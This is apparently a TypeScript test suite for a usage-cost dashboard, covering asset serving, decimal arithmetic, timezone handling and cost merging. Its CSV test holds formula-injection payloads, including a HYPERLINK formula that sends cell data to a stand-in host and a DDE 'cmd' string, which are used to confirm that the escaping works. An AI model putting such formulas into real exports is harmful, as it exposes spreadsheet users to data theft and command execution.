import { Decimal as BaseDecimal } from 'decimal.js'
import fc from 'fast-check'
import t from 'tap'
import { DECIMAL_JS } from '../../src/dashboard/client/decimal.js'
import { FORMAT_JS } from '../../src/dashboard/client/format.js'
import { TIME_JS } from '../../src/dashboard/client/time.js'
import { build, eachEngine } from '../helpers.js'

interface DecApi {
  add(a: string, b: string): string
  cmp(a: string, b: string): number
  toFixed(a: string, dp: number): string
}
interface ZoneApi {
  midnight(date: string, tz: string): number
  dateOf(ms: number, tz: string): string
  addDays(date: string, n: number): string
}

// Enough precision for any sum generated below (decimal.js rounds to 20 significant digits by default).
const Decimal = BaseDecimal.clone({ precision: 60 })

// The browser code is plain JS in a string; Node runs the same text (it has BigInt and full ICU).
// eslint-disable-next-line no-new-func -- runs the page's own script text, see above
const Dec = new Function(`${DECIMAL_JS}; return Dec`)() as DecApi
// eslint-disable-next-line no-new-func -- as above
const Zone = new Function(`${TIME_JS}; return Zone`)() as ZoneApi
interface Quantity { resource: string; quantity: string }
interface CostIn {
  total: string; input: string; cachedInput: string; cacheWrite: string; output: string; resources: string; currency: string
  complete: boolean; unpricedTokens: number; unpricedQuantity: Quantity[]
}
// eslint-disable-next-line no-new-func -- as above
const Fmt = new Function(`${DECIMAL_JS}; ${FORMAT_JS}; return Fmt`)() as { mergeCost(a: CostIn | null, b: CostIn): CostIn; csvField(v: unknown): string }

t.test('GET / serves the page and every asset it names from this server, with its content type', async (t) => {
  await eachEngine(t, async (t, engine) => {
    const app = await build(t, engine)
    const page = await app.inject('/')
    t.equal(page.statusCode, 200, 'no key needed for the page')
    t.match(page.headers['content-type'], /^text\/html; charset=utf-8/)
    t.match(page.headers['content-security-policy'], /default-src 'none'/)
    t.match(page.headers['content-security-policy'], /script-src 'self'(;|$)/)
    t.notMatch(page.body, /(src|href)="(https?:)?\/\//, 'no absolute or protocol-relative URL: nothing from a CDN')

    const refs = [...page.body.matchAll(/(?:src|href)="(dashboard\/assets\/[^"]+)"/g)].map((m) => m[1]!)
    t.equal(refs.length, 3, 'stylesheet, ECharts and the dashboard script')
    for (const ref of refs) {
      const res = await app.inject(`/${ref}`)
      t.equal(res.statusCode, 200, ref)
      t.match(res.headers['content-type'], ref.endsWith('.css') ? /^text\/css/ : /^text\/javascript/, `${ref} content type`)
      t.match(res.headers['cache-control'], /immutable/, 'content-hashed, so cached for good')
      const again = await app.inject({ url: `/${ref}`, headers: { 'if-none-match': String(res.headers.etag) } })
      t.equal(again.statusCode, 304)
    }
    const echarts = refs.find((r) => r.includes('echarts'))!
    const zipped = await app.inject({ url: `/${echarts}`, headers: { 'accept-encoding': 'gzip' } })
    t.equal(zipped.headers['content-encoding'], 'gzip', 'the library is sent compressed')

    t.equal((await app.inject('/dashboard/assets/nope.js')).statusCode, 404)
    t.match((await app.inject('/dashboard/assets/nope.js')).headers['content-type'], /problem\+json/)
  })
})

t.test('the page’s decimal arithmetic equals decimal.js on any amounts', async (t) => {
  const amount = fc
    .tuple(fc.bigInt({ min: 0n, max: 10n ** 20n }), fc.integer({ min: 0, max: 12 }), fc.boolean())
    .map(([units, scale, neg]) => new Decimal(`${neg && units !== 0n ? '-' : ''}${units}`).div(new Decimal(10).pow(scale)).toFixed())
  fc.assert(
    fc.property(amount, amount, fc.integer({ min: 0, max: 6 }), (a, b, dp) => {
      t.equal(Dec.add(a, b), new Decimal(a).plus(b).toFixed())
      t.equal(Dec.cmp(a, b), new Decimal(a).cmp(b))
      // decimal.js rounds half away from zero with ROUND_HALF_UP, as the page does; the page writes no "-0.00".
      t.equal(Dec.toFixed(a, dp), new Decimal(a).toFixed(dp, Decimal.ROUND_HALF_UP).replace(/^-(0(\.0*)?)$/, '$1'))
    }),
    { numRuns: 300 },
  )
})

t.test('the page’s CSV cells: names a spreadsheet would run as formulas are written as text, numbers as they are', async (t) => {
  // Project, key and model names come from ingested data; the downloads are opened in spreadsheets.
  for (const [value, cell] of [
    ['=HYPERLINK("http://x.example/?"&A1,"open")', `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-12.5', '-12.5'],
    ['-0.000001', '-0.000001'],
    ['42', '42'],
    ['proj_web', 'proj_web'],
    ['a,b', '"a,b"'],
    ['', ''],
    [null, ''],
    [false, 'false'],
  ] as const)
    t.equal(Fmt.csvField(value), cell, JSON.stringify(value))
})

t.test('local midnight in a zone is the first instant of that local date, across DST changes', async (t) => {
  const zones = ['UTC', 'Pacific/Auckland', 'America/Los_Angeles', 'Europe/London', 'Asia/Kolkata', 'Australia/Lord_Howe', 'America/Santiago']
  const date = fc.integer({ min: 0, max: 3650 }).map((d) => new Date(Date.UTC(2024, 0, 1) + d * 86_400_000).toISOString().slice(0, 10))
  fc.assert(
    fc.property(date, fc.constantFrom(...zones), (day, tz) => {
      const start = Zone.midnight(day, tz)
      t.equal(Zone.dateOf(start, tz), day, `${day} ${tz}: midnight is on that date`)
      t.equal(Zone.dateOf(start - 1, tz), Zone.addDays(day, -1), `${day} ${tz}: one ms earlier is the day before`)
    }),
    // Always also the days whose midnight a DST change skips or repeats (Santiago changes at 00:00); a
    // random run found the skipped one.
    { numRuns: 200, examples: [['2026-09-06', 'America/Santiago'], ['2026-04-05', 'America/Santiago'], ['2025-10-26', 'Europe/London']] },
  )
})

t.test('merging costs (the chart’s “Other” series and row totals) sums unpriced resource quantities exactly, per resource', async (t) => {
  const amount = fc.tuple(fc.bigInt({ min: 0n, max: 10n ** 15n }), fc.integer({ min: 0, max: 8 }))
    .map(([units, scale]) => new Decimal(units.toString()).div(new Decimal(10).pow(scale)).toFixed())
  const cost = fc.record({
    total: amount, resources: amount, complete: fc.boolean(), unpricedTokens: fc.nat({ max: 1e9 }),
    unpricedQuantity: fc.uniqueArray(fc.record({ resource: fc.constantFrom('images', 'storage_bytes', 'web_search_calls', 'constructor', '__proto__'), quantity: amount }),
      { selector: (q) => q.resource, maxLength: 3 }),
  }).map((c) => ({ ...c, input: '0', cachedInput: '0', cacheWrite: '0', output: '0', currency: 'USD' }))
  fc.assert(
    fc.property(fc.array(cost, { minLength: 1, maxLength: 5 }), (costs) => {
      const merged = costs.reduce<CostIn | null>((a, c) => Fmt.mergeCost(a, c), null)!
      const sum = (f: (c: CostIn) => string) => costs.reduce((s, c) => s.plus(f(c)), new Decimal(0)).toFixed()
      t.equal(merged.total, sum((c) => c.total))
      t.equal(merged.resources, sum((c) => c.resources))
      t.equal(merged.complete, costs.every((c) => c.complete))
      const expected = new Map<string, InstanceType<typeof Decimal>>()
      for (const q of costs.flatMap((c) => c.unpricedQuantity)) expected.set(q.resource, (expected.get(q.resource) ?? new Decimal(0)).plus(q.quantity))
      const want = [...expected].sort(([a], [b]) => (a < b ? -1 : 1)).map(([resource, q]) => ({ resource, quantity: q.toFixed() }))
      // A single cost is copied as the API listed it; merged ones come back in resource order.
      t.same(costs.length === 1 ? [...merged.unpricedQuantity].sort((a, b) => (a.resource < b.resource ? -1 : 1)) : merged.unpricedQuantity, want)
    }),
    { numRuns: 200 },
  )
})
